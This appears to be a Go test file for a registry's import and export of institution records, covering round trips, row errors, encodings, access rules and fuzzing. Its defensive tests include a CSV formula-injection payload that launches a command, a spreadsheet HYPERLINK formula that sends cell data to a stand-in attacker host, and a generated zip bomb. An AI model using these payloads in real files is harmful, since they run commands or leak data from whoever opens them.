package registry

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"kulla.dev/internal/db"
	"kulla.dev/internal/fault"
	"kulla.dev/internal/housetest"
	"kulla.dev/internal/marking"
)

func (w *world) load(data string, now time.Time) Plan {
	w.t.Helper()
	p, err := w.Import(context.Background(), duty, Upload{Data: []byte(data)}, nil, now)
	if err != nil {
		w.t.Fatalf("import: %v", err)
	}
	return p
}

const threeRows = "name:sq;name:en;tax_id;sector;class;class_act;employees;networks;domains;contact_name;contact_mail;contact_phone\n" +
	"Ujësjellësi;Water;L1;xa.health;critical;Act 1/2026;120;192.0.2.0/25, 2001:db8:1::/48;water.example;Ana;ana@water.example;+355 69 111 2222\n" +
	"\"=cmd|' /C calc'!A0\";;L2;xa.energy;;;;;;;;\n" +
	"Çerdhja;;;;;;;;;;;\n"

func TestImportTwiceAndExportAgain(t *testing.T) {
	housetest.Each(t, func(t *testing.T, d *db.DB) {
		w, ctx := newWorld(t, d), t.Context()
		w.make(full(), t0) // something with everything in it
		dry, err := w.Plan(ctx, duty, Upload{Data: []byte(threeRows)}, nil, t0)
		if err != nil || dry.New != 3 || dry.Errors != 0 || dry.Done {
			t.Fatalf("%+v %v", dry, err)
		}
		if c, _ := w.Counts(ctx, duty, Query{}); c.Total != 1 {
			t.Errorf("a dry run wrote: %d", c.Total)
		}
		var told []int
		p, err := w.Import(ctx, duty, Upload{Data: []byte(threeRows), Seen: dry.Digest}, func(done, total int) { told = append(told, done, total) }, t0)
		if err != nil || p.New != 3 || !p.Done || !slices.Equal(told, []int{3, 3}) {
			t.Fatalf("%+v %v %v", p, err, told)
		}
		if _, err := w.Import(ctx, duty, Upload{Data: []byte(threeRows), Seen: dry.Digest}, nil, t0); !fault.Is(err, fault.Stale) {
			t.Errorf("an old plan was carried out: %v", err)
		}
		if p = w.load(threeRows, t0.Add(time.Hour)); p.Same != 3 || p.New+p.Changed+p.Errors != 0 {
			t.Errorf("the second time: %+v", p)
		}
		water, err := w.List(ctx, duty, Query{Text: "ujes"})
		if err != nil || len(water.Items) != 1 {
			t.Fatal(water, err)
		}
		in, err := w.Get(ctx, duty, water.Items[0].ID, t0)
		if err != nil || in.Class != "critical" || len(in.Networks) != 2 || in.Contacts[0].Phone != "+355 69 111 2222" || *in.Attributes[0].Number != 120 {
			t.Errorf("%+v %v", in, err)
		}
		for _, f := range []Format{CSV, XLSX, JSON} {
			var out bytes.Buffer
			e, err := w.Export(ctx, duty, Query{}, f, &out, t0)
			if err != nil || e.Count != 4 || e.Mark.Text() != "TLP:AMBER" {
				t.Fatal(e, err)
			}
			p, err := w.Import(ctx, duty, Upload{Data: out.Bytes()}, nil, t0.Add(2*time.Hour))
			if err != nil || p.Same != 4 || p.New+p.Changed+p.Errors != 0 {
				t.Errorf("%s imported again: %d new %d changed %d errors (%v) %+v", f, p.New, p.Changed, p.Errors, err, p.Rows)
			}
			if f == CSV && !strings.Contains(out.String(), `,'=cmd|`) {
				t.Errorf("a formula leaves as it came:\n%s", out.String())
			}
			if f == XLSX {
				x, err := excelize.OpenReader(&out)
				if err != nil {
					t.Fatal(err)
				}
				rows, _ := x.GetRows("Sheet1")
				for r := range rows {
					for c := range rows[r] {
						at, _ := excelize.CoordinatesToCellName(c+1, r+1)
						if fx, _ := x.GetCellFormula("Sheet1", at); fx != "" {
							t.Errorf("%s computes %s", at, fx)
						}
					}
				}
				x.Close()
			}
		}
		// A change of one cell changes one field, and only the columns given.
		p = w.load("tax_id,employees,class,class_from\nL1,140,important,2027-01-01\n", t0)
		if p.Changed != 1 || len(p.Rows[0].Changes) != 4 {
			t.Errorf("%+v", p.Rows[0].Changes)
		}
		if in, err = w.Get(ctx, duty, in.ID, t0); err != nil || len(in.Infrastructures[0].Classes) != 2 || in.Infrastructures[0].Classes[0].To != "2026-12-31" || in.Domains[0].Value != "water.example" {
			t.Errorf("%+v %v", in.Infrastructures, err)
		}
	})
}

func TestJSONMovesARegisterToAnotherDesk(t *testing.T) {
	housetest.Each(t, func(t *testing.T, d *db.DB) {
		w := newWorld(t, d)
		in := w.make(full(), t0)
		var out bytes.Buffer
		if _, err := w.Export(t.Context(), duty, Query{}, JSON, &out, t0); err != nil {
			t.Fatal(err)
		}
		other := newWorld(t, housetest.Open(t, housetest.SQLiteURL(t)))
		if p := other.load(out.String(), t0); p.New != 1 {
			t.Fatalf("%+v", p)
		}
		got, err := other.Get(t.Context(), duty, in.ID, t0)
		if err != nil || !same(got.Record, in.Record) {
			t.Errorf("arrived as %+v, %v", Diff(in.Record, got.Record), err)
		}
	})
}

func TestEachRowInErrorSaysWhatToDo(t *testing.T) {
	d := housetest.Open(t, housetest.SQLiteURL(t))
	w := newWorld(t, d)
	twin := w.make(Named("sq", "Binjake"), t0)
	if _, err := w.Create(t.Context(), duty, Draft{Record: Named("sq", "Binjake"), Anyway: true}, t0); err != nil {
		t.Fatal(err)
	}
	data := "id,name:sq,tax_id,sector,class,employees,networks,domains,contact_name,contact_mail,since,mark,colour\n" +
		",Mirë,T1,xa.energy,critical,12,,,,,2020-01-02,TLP:GREEN,red\n" + // 2
		",,,,,,,,,,,,\n" + // blank: passed over
		",Gabim sektori,T2,xa.enrgy,,,,,,,,,\n" + // 4
		",Gabim klase,T3,,top,,,,,,,,\n" + // 5
		",Gabim numri,T4,,,\"1,500\",,,,,,,\n" + // 6 could be one and a half
		",Gabim rrjeti,T5,,,,10.0.0.0/99,,,,,,\n" + // 7
		",Gabim domeni,T6,,,,,localhost,,,,,\n" + // 8
		",Gabim poste,T7,,,,,,Ana,ana-at-x,,,\n" + // 9
		",Gabim dite,T8,,,,,,,,31.02.2026,,\n" + // 10
		",Gabim shenje,T9,,,,,,,,,TLP:PURPLE,\n" + // 11
		",I dyti,T1,,,,,,,,,,\n" + // 12
		",Binjake,,,,,,,,,,,\n" + // 13
		"a b,Id e keqe,,,,,,,,,,,\n" + // 14
		",,T10,,,,,,,,,,\n" + // 15 no name
		"," + strings.Repeat("x", maxCell+1) + ",T11,,,,,,,,,,\n" // 16
	p := w.load(data, t0)
	if !slices.Equal(p.Unknown, []string{"colour"}) || p.New != 1 || p.Errors != 13 {
		t.Errorf("%d new %d errors, unknown %v", p.New, p.Errors, p.Unknown)
	}
	type told struct{ column, key string }
	expected := map[int]told{4: {"sector", "registry.check.sector"}, 5: {"class", "registry.check.class"}, 6: {"employees", "fault.field.number"},
		7: {"networks", "registry.check.network"}, 8: {"domains", "registry.check.domain"}, 9: {"contact_mail", "fault.field.email"},
		10: {"since", "registry.check.day"}, 11: {"mark", "registry.check.mark"}, 12: {"tax_id", "registry.import.row-twice"},
		13: {"name:sq", "registry.import.several"}, 14: {"id", "registry.check.id"}, 16: {"name:sq", "registry.import.cell-long"}}
	for _, r := range p.Rows {
		x, bad := expected[r.Line]
		if !bad {
			continue
		}
		if len(r.Problems) == 0 || r.Problems[0].Column != x.column || r.Problems[0].Key != x.key {
			t.Errorf("line %d says %+v, want %+v", r.Line, r.Problems, x)
		}
	}
	if p = w.load("id,name:sq\n"+string(twin.ID)+",Binjakja e parë\n", t0); p.Changed != 1 {
		t.Errorf("by id: %+v", p)
	}
}

func TestEncodings(t *testing.T) {
	d := housetest.Open(t, housetest.SQLiteURL(t))
	w := newWorld(t, d)
	text := "name:sq,tax_id\nÇelësi i Shëndetit,%s\n"
	enc := func(s string, e interface{ String(string) (string, error) }) []byte {
		out, err := e.String(s)
		if err != nil {
			t.Fatal(err)
		}
		return []byte(out)
	}
	for i, x := range []struct {
		name string
		data func(s string) []byte
		as   string
	}{
		{"UTF-8", func(s string) []byte { return []byte(s) }, "UTF-8"},
		{"with mark", func(s string) []byte { return []byte("\ufeff" + s) }, "UTF-8"},
		{"UTF-16LE", func(s string) []byte { return enc(s, unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder()) }, "UTF-16"},
		{"UTF-16BE", func(s string) []byte { return enc(s, unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder()) }, "UTF-16"},
		{"1252", func(s string) []byte { return enc(s, charmap.Windows1252.NewEncoder()) }, "Windows-1252"},
		{"1250", func(s string) []byte { return enc(s+"Krijesa Šćepanović,X\n", charmap.Windows1250.NewEncoder()) }, "Windows-1250"},
	} {
		tax := fmt.Sprintf("E%d", i)
		p, err := w.Plan(t.Context(), duty, Upload{Data: x.data(fmt.Sprintf(text, tax))}, nil, t0)
		if err != nil || p.Encoding != x.as || p.Rows[0].Name != "Çelësi i Shëndetit" || p.Rows[0].Outcome != RowNew {
			t.Errorf("%s: read as %s, %+v, %v", x.name, p.Encoding, p.Rows, err)
		}
		if x.as == "Windows-1250" && p.Rows[1].Name != "Krijesa Šćepanović" {
			t.Errorf("%s: %q", x.name, p.Rows[1].Name)
		}
	}
	for name, data := range map[string][]byte{
		"UTF-16 without mark": enc("name:sq\nabc\n", unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder()),
		"half a UTF-16":       []byte("\xff\xfea\x00\x00\xd8"),
		"both pages":          []byte("name:sq\n\xe8\xe0\xf2\n"),
		"broken UTF-8":        []byte("\xef\xbb\xbfname:sq\n\xff\n"),
	} {
		_, err := w.Plan(t.Context(), duty, Upload{Data: data}, nil, t0)
		want(t, err, fault.Invalid)
		if err != nil && !strings.Contains(err.Error(), "registry.import.encoding") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// zipOf makes a zip with one part of n zero bytes beside the parts of an
// empty workbook.
func zipOf(t testing.TB, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	part, err := z.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	block := make([]byte, 1<<20)
	for ; n > 0; n -= len(block) {
		if _, err := part.Write(block[:min(n, len(block))]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestHostileFiles(t *testing.T) {
	d := housetest.Open(t, housetest.SQLiteURL(t))
	w := newWorld(t, d)
	book := excelize.NewFile()
	_ = book.SetSheetRow("Sheet1", "A1", &[]string{"name:sq", "tax_id"})
	_ = book.SetCellFormula("Sheet1", "A2", `HYPERLINK("http://evil.example?"&B2,"x")`)
	_ = book.SetCellStr("Sheet1", "B2", "00123")
	_ = book.SetCellStr("Sheet1", "A3", "Mirë")
	var formula bytes.Buffer
	if err := book.Write(&formula); err != nil {
		t.Fatal(err)
	}
	book.Close()
	p, err := w.Plan(t.Context(), duty, Upload{Data: formula.Bytes()}, nil, t0)
	if err != nil || len(p.Rows) != 2 || p.Rows[0].Outcome != RowError || p.Rows[1].Outcome != RowNew {
		t.Errorf("formula: %+v %v", p, err) // a formula without a value names nobody
	}
	for _, x := range []struct {
		name string
		data []byte
		key  string
	}{
		{"nothing", nil, "registry.import.empty"},
		{"blank lines", []byte("\n\n \n"), "registry.import.empty"},
		{"zip bomb", zipOf(t, maxUnpacked+1), "registry.import.bomb"},
		{"no workbook", zipOf(t, 10), "registry.import.format"},
		{"cut zip", formula.Bytes()[:formula.Len()/2], "registry.import.format"},
		{"old Excel", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "registry.import.old-excel"},
		{"PDF", []byte("%PDF-1.7"), "registry.import.format"},
		{"open quote", []byte("name:sq,note\na,\"b\nc,d\n"), "registry.import.quotes"},
		{"quote within", []byte("name:sq,note\na,b\"c\n"), "registry.import.quotes"},
		{"100 MB field", append([]byte("name:sq\n\""), bytes.Repeat([]byte("x"), 100<<20)...), "registry.import.large"},
		{"50 MB field", append([]byte("name:sq\n\""), bytes.Repeat([]byte("x"), 50<<20)...), "registry.import.quotes"},
		{"too many columns", []byte("name:sq" + strings.Repeat(",x", 300) + "\n" + "a" + strings.Repeat(",x", 300) + "\n"), "registry.import.columns"},
		{"a column twice", []byte("name:sq,Name:SQ\na,b\n"), "registry.import.column-twice"},
		{"no name", []byte("colour,shape\nred,round\n"), "registry.import.no-name"},
		{"bad JSON", []byte(`{"institutions":[{"names":`), "registry.import.json"},
		{"wrong kind", []byte(`{"institutions":[{"tax_id":5}]}`), "registry.import.json-field"},
		{"unknown field", []byte(`{"institutions":[{"colour":"red"}]}`), "registry.import.json"},
	} {
		_, err := w.Plan(t.Context(), duty, Upload{Data: x.data}, nil, t0)
		if !fault.Is(err, fault.Invalid) || !strings.Contains(err.Error(), x.key+" ") {
			t.Errorf("%s: %.200v", x.name, err)
		}
	}
	if c, err := w.Counts(t.Context(), duty, Query{}); err != nil || c.Total != 0 {
		t.Errorf("something was stored: %v %v", c, err)
	}
	if _, err := w.Import(t.Context(), officer("x"), Upload{Data: []byte("name:sq\na\n")}, nil, t0); !fault.Is(err, fault.Denied) {
		t.Errorf("an officer imports: %v", err)
	}
}

// What one may not read is neither matched, nor told, nor exported.
func TestImportDoesNotTellOfTheHidden(t *testing.T) {
	d := housetest.Open(t, housetest.SQLiteURL(t))
	w := newWorld(t, d)
	r := Named("sq", "E Fshehtë")
	r.TaxID, r.Mark = "H1", markRed
	w.make(r, t0)
	p, err := w.Plan(t.Context(), analyst, Upload{Data: []byte("name:sq,tax_id\nE Fshehtë,H1\n")}, nil, t0)
	if err != nil || p.New != 1 {
		t.Errorf("%+v %v", p, err)
	}
	var out bytes.Buffer
	if e, err := w.Export(t.Context(), analyst, Query{}, JSON, &out, t0); err != nil || e.Count != 0 || strings.Contains(out.String(), "Fshehtë") {
		t.Errorf("exported %+v %v", e, err)
	}
}

func TestNeutralIsUndone(t *testing.T) {
	for _, s := range []string{"", "a", "=1+1", "+355", "-1", "@x", "'=1", "''+2", "'quoted'", "'", "\tx"} {
		n := neutral(s)
		if formula(n) {
			t.Errorf("%q leaves as %q", s, n)
		}
		if restore(n) != s {
			t.Errorf("%q comes back as %q", s, restore(n))
		}
	}
}

func FuzzReadUpload(f *testing.F) {
	f.Add([]byte(threeRows))
	f.Add([]byte("name:sq\tx\n\"a\"\"b\"\tc\n"))
	f.Add([]byte("\xff\xfea\x00,\x00"))
	f.Add([]byte(`{"institutions":[{"id":"a","names":[{"text":{"sq":"x"}}],"mark":"TLP:RED"}]}`))
	f.Add([]byte("PK\x03\x04"))
	f.Add(zipOf(f, 100))
	book := excelize.NewFile()
	_ = book.SetSheetRow("Sheet1", "A1", &[]string{"name:sq", "id"})
	_ = book.SetSheetRow("Sheet1", "A2", &[]string{"x", "y"})
	var b bytes.Buffer
	_ = book.Write(&b)
	f.Add(b.Bytes())
	d := &Desk{Config: Config{Pack: testPack()}}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, _, err := d.readUpload(data)
		if err != nil && !fault.Is(err, fault.Invalid) {
			t.Errorf("an error nobody can act on: %v", err)
		}
		for _, r := range rows {
			for c, v := range r.cells {
				if len(v) > maxCell {
					t.Errorf("column %s has %d bytes", c, len(v))
				}
			}
		}
	})
}

func FuzzParseNetwork(f *testing.F) {
	for _, s := range []string{"192.0.2.1/24", "2001:db8::/32", "::ffff:192.0.2.0/120", "AS64496", "as0", "1.2.3.4", "fe80::1%eth0", "0.0.0.0/0", "/", "AS99999999999"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, ok := ParseNetwork(s)
		if !ok {
			return
		}
		if again, ok := ParseNetwork(v); !ok || again != v {
			t.Errorf("%q → %q → %q", s, v, again)
		}
		if _, c := covering(v); len(c) == 0 || c[0] != v {
			t.Errorf("%q is not covered by itself: %v", v, c)
		}
	})
}

func FuzzParseDomain(f *testing.F) {
	for _, s := range []string{"Example.ORG.", "*.çelur.example", "xn--elur-zoa.example", "a", "1.2.3.4", "a..b", "-a.example", "faß.de", strings.Repeat("a", 64) + ".b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, ok := ParseDomain(s)
		if !ok {
			return
		}
		if again, ok := ParseDomain(v); !ok || again != v {
			t.Errorf("%q → %q → %q", s, v, again)
		}
	})
}

var markRed = marking.Of(marking.TLPRed)
